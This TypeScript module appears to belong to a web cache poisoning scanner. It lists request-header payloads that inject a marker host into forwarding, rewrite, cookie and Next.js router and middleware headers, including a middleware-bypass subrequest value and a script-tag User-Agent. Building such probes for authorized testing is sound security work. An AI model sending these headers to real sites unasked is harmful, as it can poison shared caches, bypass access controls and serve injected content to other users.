import { words } from './requests.ts'

/** Headers with which an attacker wants the page that is stored next to hold something of theirs. */
export const MARK = 'poison.example'

type Headers = readonly (readonly [name: string, value: string])[]

const one = (name: string, value = MARK): Headers => [[name, value]]

const NAMES = words(
  `X-Forwarded-Host X-Host X-Original-Host X-Real-IP Host X-Middleware-Request-Host X-Prerender-Revalidate
  X-Next-Revalidated-Tags X-Next-Cache-Tags Next-Action Accept-Encoding X-Craft-Live-Preview`,
)
const PATH_NAMES = words('X-Forwarded-Prefix X-Original-URL X-Rewrite-URL X-Matched-Path X-Invoke-Path Next-Url')

export const POISON: readonly Headers[] = [
  ...NAMES.map((name) => one(name)),
  ...PATH_NAMES.map((name) => one(name, `/${MARK}`)),
  ...words('X-Nextjs-Data RSC Next-Router-Prefetch X-Data-Request').map((name) => one(name, '1')),
  one('X-Forwarded-Proto', 'poison'),
  one('Forwarded', `host=${MARK};proto=https`),
  one('X-HTTP-Method-Override', 'POST'),
  one('Referer', `https://${MARK}/`),
  one('Accept-Language', `en, ${MARK}`),
  one('User-Agent', `<script>${MARK}</script>`),
  one('Cookie', `NEXT_LOCALE=en; language=en; ${MARK}=1`),
  one('Cookie', `__prerender_bypass=${MARK}; preview=${MARK}`),
  one('X-Middleware-Subrequest', 'proxy:proxy:proxy:proxy:proxy'),
  one('X-Middleware-Rewrite', `https://${MARK}/`),
  one('X-Middleware-Set-Cookie', `a=${MARK}`),
  [...one('RSC', '1'), ...one('Next-Url', `/${MARK}`)],
  [...one('RSC', '1'), ...one('Next-Router-State-Tree', encodeURIComponent(JSON.stringify(['', {}, null, MARK])))],
  [...one('RSC', '1'), ...one('Next-Router-Prefetch', '1'), ...one('Next-Router-Segment-Prefetch', '/_tree')],
  one('Accept', `text/markdown, ${MARK}`),
  one('Range', 'bytes=0-10'),
  one('If-None-Match', '*'),
]
